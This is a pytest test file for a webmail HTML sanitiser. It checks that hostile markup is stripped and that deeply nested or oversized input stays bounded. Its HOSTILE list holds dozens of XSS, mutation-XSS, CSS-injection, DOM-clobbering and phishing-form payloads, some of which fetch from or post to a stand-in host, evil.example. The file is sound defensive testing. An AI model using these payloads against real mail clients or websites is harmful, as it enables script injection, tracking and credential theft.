"""Hostile HTML, one case for each class: what is left can neither run, nor fetch, nor lead to this server, nor name anything."""

import re
from html.parser import HTMLParser

import pytest

from appliance.web.webmail.html_bounds import DEPTH, is_bounded
from appliance.web.webmail.html_cleaning import ATTRIBUTES, HTML_CHARACTERS, TAGS, clean_html, html_text
from appliance.web.webmail.styles import clean_style

EVIL = "https://evil.example/x"
HOSTILE = (
    f"<script>fetch('{EVIL}')</script>", f"<script src={EVIL}></script>", f"<SCRIPT/SRC={EVIL}></SCRIPT>", "<scr<script>ipt>x()</script>",
    "<img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<div onclick='x()' onmouseover=x()>a</div>", "<details ontoggle=x() open>",
    "<a href='javascript:alert(1)'>a</a>", "<a href=' java\nscript:alert(1)'>a</a>", "<a href='data:text/html,<script>x()</script>'>a</a>",
    "<a href='/sign-out'>a</a>", "<a href='//evil.example/'>a</a>", "<a href='mail/../own/'>a</a>", "<a href='vbscript:x'>a</a>",
    f"<style>@import '{EVIL}'; body{{background:url({EVIL})}}</style>", f"<div style='background:url({EVIL})'>a</div>",
    f"<div style='background:\\75 rl({EVIL})'>a</div>", f"<div style='background/**/:u/**/rl({EVIL})'>a</div>",
    f"<div style=\"background-image:image-set('{EVIL}' 1x)\">a</div>", f"<div style='--x:url({EVIL});background:var(--x)'>a</div>",
    "<div style='position:fixed;top:0;left:0;z-index:9;width:100%'>a</div>", "<div style='color:red;behavior:url(#x)'>a</div>",
    "<div style='width:expression(alert(1))'>a</div>", "<div style='content:attr(title)'>a</div>",
    f"<svg><script>x()</script><image href='{EVIL}'/></svg>", f"<svg><use href='{EVIL}#x'/></svg>",
    f"<math><mtext><img src={EVIL} onerror=x()></mtext></math>", "<math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    f"<form action={EVIL}><input name=password><button>ok</button></form>", f"<button formaction={EVIL}>a</button>",
    "<textarea><img src=x onerror=x()></textarea>", "<select><option>a</select>", "<isindex>", "<input type=image src=x>",
    f"<base href={EVIL}>", f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<link rel=stylesheet href={EVIL}>",
    f"<img srcset='{EVIL} 2x'>", f"<picture><source srcset={EVIL}><img></picture>", f"<video src={EVIL} poster={EVIL}></video>",
    f"<audio src={EVIL}></audio>", f"<video><source src={EVIL}></video>", f"<table background={EVIL}><td background={EVIL}>a</table>",
    f"<body background={EVIL}>", f"<iframe src={EVIL}></iframe>", "<iframe srcdoc='<script>x()</script>'></iframe>",
    f"<frameset><frame src={EVIL}></frameset>", f"<object data={EVIL}></object>", f"<embed src={EVIL}>", f"<applet code={EVIL}></applet>",
    f"<img src='{EVIL}?", f"<a href='{EVIL}?<p>text", f"<img src=\"{EVIL}?\n<p>secret</p>", "<img alt=\"<!--\" src=x><!-- --><script>",
    "<a id=body name=forms>a</a>", "<img name=cookie id=location>", "<form id=x><input name=parentNode></form>", "<p class=top>a</p>",
    "<template><script>x()</script></template>", "<xmp><script>x()</script></xmp>", "<plaintext><script>x()</script>",
    "<![CDATA[<script>x()</script>]]>", "<!--[if IE]><script>x()</script><![endif]-->", "<?xml version='1.0'?><script>x()</script>",
    "<a target=_top href='http://a.example/' ping='http://evil.example/'>a</a>", "<marquee onstart=x()>a</marquee>",
    "<dialog open>a</dialog>",
    "<p autofocus tabindex=1 accesskey=a contenteditable onfocus=x()>a</p>", f"<img src='blob:{EVIL}'>",
    "<img src='data:image/svg+xml,<svg>'>",
    "<img src='file:///etc/passwd'>", "<img src='/own/'>", "<img src='//evil.example/x'>", "<img src=\"https:\\\\evil.example\\x\">",
    "<img lowsrc=x dynsrc=x longdesc=x usemap=#x ismap>", "<p data-facts='{}' data-x=1 is=x slot=x part=x>a</p>",
)  # fmt: skip


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        known = (
            ATTRIBUTES["*"]
            | ATTRIBUTES.get(tag, frozenset())
            | ({"rel", "target"} if tag == "a" else {"loading"} if tag == "img" else set())
        )
        for name, value in attrs:
            if name not in known:
                self.faults.append(f"{tag}.{name}")
            if name == "href" and not re.match("(https?://|mailto:|tel:)", value or ""):
                self.faults.append(f"href {value}")
            if name == "target" and value != "_blank":
                self.faults.append(f"target {value}")
            if name == "src" and not (value or "").startswith("/mail/image/"):
                self.faults.append(f"src {value}")
            if name == "style" and re.search(r"url|expression|position|z-index|var|attr|image|\\|@", value or ""):
                self.faults.append(f"style {value}")


def together(many: int = 12) -> list[str]:
    """The cases, `many` in one text, so that a browser needs few messages; those that no parser is trusted with stand in the last."""
    bounded = [one for one in HOSTILE if is_bounded(one)]
    others = [one for one in HOSTILE if not is_bounded(one)]
    texts = [_joined(bounded[at : at + many]) for at in range(0, len(bounded), many)]
    assert all(map(is_bounded, texts)), "all of a message would be shown as text"
    return [*texts, _joined(others)]


def _joined(cases: list[str]) -> str:
    return "<p>before</p>" + "<hr>".join(f"<div>{one}</div>" for one in cases)


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left(html: str) -> None:
    for given in (html, f"<div><table><tr><td>{html}</td></tr></table></div>", f"<p>before</p>{html}<p>after</p>"):
        reader = _Reader()
        reader.feed(clean_html(given, lambda name: None, None).html or "")
        reader.close()
        assert not reader.faults, given


def test_images_and_links() -> None:
    html = (
        '<p style="color: red">Hello <img src="cid:a@b"><img src="http://x.example/y.png"> <a href="https://x.example/?a=b&amp;c">x</a></p>'
    )
    found = clean_html(html, lambda name: f"/mail/image/{name}", None)
    assert found.html is not None and found.remote == 1
    assert 'src="/mail/image/a@b"' in found.html and "y.png" not in found.html
    assert 'style="color:red"' in found.html and 'href="https://x.example/?a=b&amp;c"' in found.html and 'target="_blank"' in found.html
    shown = clean_html(html, lambda name: None, lambda address: "/mail/image/REMOTE")
    assert shown.html is not None and shown.html.count("/mail/image/REMOTE") == 1


def test_deep_and_large_html_is_not_parsed() -> None:
    assert clean_html("<div>" * 50_000, lambda name: None, None).html is None
    assert clean_html("<div></b>" * (DEPTH + 1), lambda name: None, None).html is None
    assert clean_html("<b id=1></i>" * (DEPTH + 1), lambda name: None, None).html is None
    assert clean_html("<p><p><li><br><div><b>x</b></div>" * 5000, lambda name: None, None).html
    assert clean_html("a" * (HTML_CHARACTERS + 1), lambda name: None, None).html is None
    assert clean_html("<table><tr><td>a<td>b</table>" * 5000, lambda name: None, None).html


@pytest.mark.parametrize(
    ("style", "left"),
    [
        ("color:#fff; background: #000 ; FONT-SIZE: 12px !important", "color:#fff;background:#000;font-size:12px !important"),
        ("color:rgb(1, 2, 3)", "color:rgb(1, 2, 3)"),
        ("background:url(x);color:red", "color:red"),
        ("color:red;}body{color:blue", "color:red"),
        ("font-family:'A B',\"C\"", "font-family:'A B',\"C\""),
        ("position:absolute", ""),
        ("width:calc(1px)", ""),
        ("min-height:100vh;height:50DVH;width:100vw;max-height:9vmin", "width:100vw"),
        ("c\\6flor:red", ""),
    ],
)
def test_styles(style: str, left: str) -> None:
    assert clean_style(style) == left


def test_html_as_text() -> None:
    assert html_text("<style></style\x0b>" + "<div>" * 5000 + "deep") == "deep\n"
    html = "<style>p{}</style><p>Hello\n  you</p><p>A <b>bold</b> line<br>next &amp; last</p><script>x()</script><ul><li>one<li>two</ul>"
    assert html_text(html) == "Hello you\n\nA bold line\nnext & last\n\none\ntwo\n"
    assert html_text("<div>" * 5000 + "deep") == "deep\n"
    assert html_text("<style>p{}</style><script>x()</SCRIPT >a<title>t</title>" + "<div>" * 5000 + "<style>b") == "ab\n"
    assert html_text("<style " * 100_000 + "<div>" * 5000)


DEEP = (
    '<div><img alt="</div>">', "<div><!--</div>-->", "<div><!--></div>-->", "<div><marquee></div></marquee>",
    "<div><textarea></div></textarea>",
    "<div><select></div></select>", "<span><div></span></div>", "<span><p></span></p>", "<li><dd>", "<div><svg><desc></div></desc></svg>",
    "<div><svg><![CDATA[></div>]]></svg>", "<div><script><!--<script></script></div>--></script>", "<lin\u212a>",
    "<svg><td>", "<svg><p><g></svg>",
    "<select><xmp><input><div>", "<table><td>", "<div><noscript></div></noscript>", '<div "><x y="></div>', "<b id={}><div></b></div>",
    "<template><div></div>", "<math><mi><p></math>", "<DIV></div x='", "<div><title></div></title>", "<div><style></div></style></divx>",
    "<div><object></div></object>", "<table><div><td><i></div>", "<a href={}><section>", "<x-b>", "<u></U\f>x<s>", "<div><plaintext></div>",
)  # fmt: skip


def depth(html: str) -> int:
    """Of clean HTML, which is well-formed."""
    deepest = opened = 0
    for end, name in re.findall(r"<(/?)([a-z0-9]+)[^>]*>", html):
        opened += 0 if name in ("br", "hr", "img", "wbr", "col") else -1 if end else 1
        deepest = max(deepest, opened)
    return deepest


@pytest.mark.parametrize("unit", DEEP)
def test_no_trick_makes_a_parser_go_deeper_than_the_bound(unit: str) -> None:
    """Each is told to be flat by something: a comment, a value, an end tag that does not count where it stands."""
    cleaned = clean_html("".join(unit.format(number) for number in range(1000)), lambda name: None, None).html
    assert cleaned is None or depth(cleaned) < 3 * DEPTH


MANY = (
    "<p>" + "".join(f"<b id={number}>" for number in range(290)) + "<p>x" * 5000,
    "<table>" + "".join(f"<font size={number}>" for number in range(290)) + "<tr>x" * 5000,
    "".join(f"<i id={number}>" for number in range(290)) + "<div>x</div>" * 5000,
    "<p>" + "<b>" * 290 + "<button><p>x</p></button>" * 5000,
    "<span>" * 250 + "".join(f"<nobr id={number}>" for number in range(40)) + "</span>x" * 250,
)


@pytest.mark.parametrize("html", MANY)
def test_formatting_that_is_left_open_is_not_made_anew_a_million_times(html: str) -> None:
    cleaned = clean_html(html, lambda name: None, None).html
    assert len(cleaned or "") < 3 * len(html)
    if cleaned:
        formatting = remade = 0
        for end, name in re.findall(r"<(/?)([a-z0-9]+)", cleaned):
            remade += 0 if name in ("b", "font", "i") else formatting
            formatting += 0 if name not in ("b", "font", "i") else -1 if end else 1
        assert remade < 100_001, "what a browser makes of it is as little"
    assert len(html_text(html)) < 3 * len(html)


def test_a_tag_with_very_many_attributes_and_very_many_tags_are_not_parsed() -> None:
    attributes = " ".join(f"a{number}" for number in range(5000))
    for html in (f"<b {attributes}>x</b>", f"x</b {attributes}>", f"x<b {attributes}", f"x</b {attributes}", f"<p title='<b {attributes}"):
        assert clean_html(html, lambda name: None, None).html is None, "each is compared with all before it"
    assert clean_html("<br>" * 100_001, lambda name: None, None).html is None
    assert clean_html("<p>a < b and <c d" + " " * 3000, lambda name: None, None).html == "<p>a &lt; b and </p>"
    assert clean_html("<img src='data:image/png;base64," + "A" * 800_000 + "'>", lambda name: None, None).html is not None


@pytest.mark.parametrize("unit", ["&", "& ", "&a;", "&notit;", "&#", "&#x;"])
def test_ampersands_that_are_no_reference_are_not_parsed_by_the_megabyte(unit: str) -> None:
    html = (unit * 500_000)[:900_000]
    assert clean_html(html, lambda name: None, None).html is None and "&" in html_text(html)
    assert clean_html(unit * 10_000, lambda name: None, None).html is not None


def test_a_text_all_in_references_is_shown() -> None:
    html = "<p>" + "&#1087;&#x43f;&nbsp;&eacute;" * 30_000
    cleaned = clean_html(html, lambda name: None, None).html
    assert cleaned is not None and cleaned.count("\u043f") == 60_000


def test_formatting_keeps_its_names_and_attributes() -> None:
    html = '<p><B>bold</B> <font color="red" size="3">x</font> <code title="a &lt;b&gt; c">q</code> <b><i>both</b></i><nobr>n</nobr></p>'
    cleaned = clean_html(html, lambda name: None, None).html
    assert cleaned is not None and "x-" not in cleaned
    assert cleaned.startswith('<p><b>bold</b> <font color="red" size="3">x</font> <code title="a &lt;b&gt; c">q</code> <b><i>both</i></b>')


def test_what_mail_programs_write_is_within_the_bounds() -> None:
    cell = "<td><font face=Arial><b>Title</b><br><p>Hello<p>World <a href='https://x.example/'><img src='https://x.example/y.png'></a></font></td>"
    table = f"<table width=600><tbody><tr>{cell}<td><span><div>Block</div></span></td></tr></table>"
    outlook = f"<!--[if mso]><table><tr><td><![endif]-->{table * 200}<!--[if mso]></td></tr></table><![endif]-->"
    sloppy = "<table>" + "<tr><td><font color=red>x<td><p>y<b>z" * 400 + "</table>" + "<ul>" + "<li>x" * 400 + "</ul>" + "<p>text " * 400
    for html in (
        outlook,
        "<div><center>" * 30 + table * 300 + "</center></div>" * 30,
        sloppy,
        "<select>" + "<option>x" * 500 + "</select>",
    ):
        assert clean_html(html, lambda name: None, None).html is not None
